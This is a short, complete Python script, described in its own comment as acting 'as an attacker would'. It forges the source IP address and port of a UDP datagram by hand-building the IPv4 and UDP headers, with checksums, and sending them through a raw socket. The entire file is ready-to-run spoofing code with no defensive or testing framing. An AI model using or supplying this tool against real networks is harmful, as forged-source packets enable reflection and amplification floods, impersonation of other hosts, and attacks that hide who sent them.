#!/usr/bin/env python3
# Sends one UDP datagram with a forged source, as an attacker would: a raw IPv4 socket (root),
# the IP and UDP headers written here. Usage: forge-udp.py SRC_IP SRC_PORT DST_IP DST_PORT HEX
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


src, sport, dst, dport, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), bytes.fromhex(sys.argv[5])
udp_len = 8 + len(payload)
pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
udp = struct.pack("!HHHH", sport, dport, udp_len, checksum(pseudo + udp) or 0xFFFF) + payload
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.sendto(ip + udp, (dst, 0))
